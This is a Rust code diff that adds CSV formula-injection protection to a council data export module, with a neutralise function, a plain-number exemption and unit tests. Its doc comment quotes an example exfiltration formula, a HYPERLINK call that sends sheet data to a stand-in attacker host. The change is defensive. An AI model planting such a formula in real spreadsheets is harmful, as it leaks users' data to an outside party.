@@ -3,21 +3,64 @@
 //!
 //! Numbers are written plainly (no thousands separators, the paper's decimal places) so a
 //! spreadsheet reads them as numbers; a blank or unpublished cell is an empty field.
+//!
+//! ## Formula injection
+//!
+//! The text comes from council papers and from whoever publishes the data, and officers
+//! open these files in Excel or LibreOffice, which run a cell beginning with `=` as a
+//! formula (`=HYPERLINK("http://evil.example/?x="&A1,"Click")` sends the sheet's data
+//! away). [`to_csv`], the only CSV writer, therefore follows OWASP's rule for CSV
+//! injection: a cell — header or data — that begins with `=`, `+`, `-`, `@`, a tab or a
+//! carriage return is written with a single quote `'` in front, so the spreadsheet reads
+//! it as text: `=SUM(A1)` is written `'=SUM(A1)` and a reader sees the text `'=SUM(A1)`,
+//! not a result. The `csv` crate then quotes the cell as usual when it holds a comma, quote or line
+//! break.
+//!
+//! One exception keeps our own figures numeric, so that a spreadsheet still sums them: a
+//! cell that is exactly a plain decimal number — an optional leading `-`, digits, and an
+//! optional `.` with digits (`-12.5`), no exponent, no `+` — is left as it is. It cannot
+//! be a formula. Everything else that starts with a trigger (`-1+1`, `-inf`, `+44…`) is
+//! prefixed. See `docs/security.md`.
+
+use std::borrow::Cow;
 
 use crate::charts::{SeriesData, StackedData};
 use crate::indicators::format_number;
 use crate::rag::{blocks_text, status_label, ActionRow, RagCounts};
 use minutebook_data::{Cell, DataTable, Indicator, RagStatus};
 
-/// CSV text from a header row and data rows.
+/// The characters that make a spreadsheet read a cell as a formula (OWASP).
+const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell as it is written: prefixed with `'` when it would start a formula (see the
+/// module docs); plain decimal numbers such as `-3.5` are left as numbers.
+pub fn neutralise(cell: &str) -> Cow<'_, str> {
+    match cell.chars().next() {
+        Some(c) if FORMULA_TRIGGERS.contains(&c) && !is_plain_number(cell) => {
+            Cow::Owned(format!("'{cell}"))
+        }
+        _ => Cow::Borrowed(cell),
+    }
+}
+
+/// `-?[0-9]+(\.[0-9]+)?`: what [`plain`] writes for a finite number.
+fn is_plain_number(s: &str) -> bool {
+    let digits = |t: &str| !t.is_empty() && t.bytes().all(|b| b.is_ascii_digit());
+    let unsigned = s.strip_prefix('-').unwrap_or(s);
+    match unsigned.split_once('.') {
+        Some((int, frac)) => digits(int) && digits(frac),
+        None => digits(unsigned),
+    }
+}
+
+/// CSV text from a header row and data rows; every cell goes through [`neutralise`].
 pub fn to_csv(header: &[String], rows: &[Vec<String>]) -> String {
     let mut w = csv::WriterBuilder::new()
         .terminator(csv::Terminator::CRLF)
         .from_writer(Vec::new());
     // Writing to a Vec cannot fail; every row has the header's length.
-    let _ = w.write_record(header);
-    for r in rows {
-        let _ = w.write_record(r);
+    for r in std::iter::once(header).chain(rows.iter().map(Vec::as_slice)) {
+        let _ = w.write_record(r.iter().map(|c| neutralise(c).into_owned()));
     }
     let bytes = w.into_inner().unwrap_or_default();
     String::from_utf8(bytes).unwrap_or_default()
@@ -246,6 +289,34 @@ mod tests {
             &[vec!["x, y".into(), "say \"hi\"\nthere".into()]],
         );
         assert_eq!(csv, "a,b\r\n\"x, y\",\"say \"\"hi\"\"\nthere\"\r\n");
+    }
+
+    #[test]
+    fn formulas_become_text_and_numbers_stay_numbers() {
+        for (cell, written) in [
+            ("=SUM(A1)", "'=SUM(A1)"),
+            ("+1", "'+1"),
+            ("-1+1", "'-1+1"),
+            ("@SUM(1)", "'@SUM(1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("-inf", "'-inf"),
+            ("-", "'-"),
+            ("-1.", "'-1."),
+            ("-.5", "'-.5"),
+            ("-1e5", "'-1e5"),
+            ("-3.5", "-3.5"),
+            ("-12", "-12"),
+            ("12", "12"),
+            ("a=b", "a=b"),
+            ("", ""),
+        ] {
+            assert_eq!(neutralise(cell), written, "{cell:?}");
+        }
+        assert_eq!(
+            to_csv(&["=h".into()], &[vec!["=1,2".into()], vec!["-2.5".into()]]),
+            "'=h\r\n\"'=1,2\"\r\n-2.5\r\n"
+        );
     }
 
     #[test]
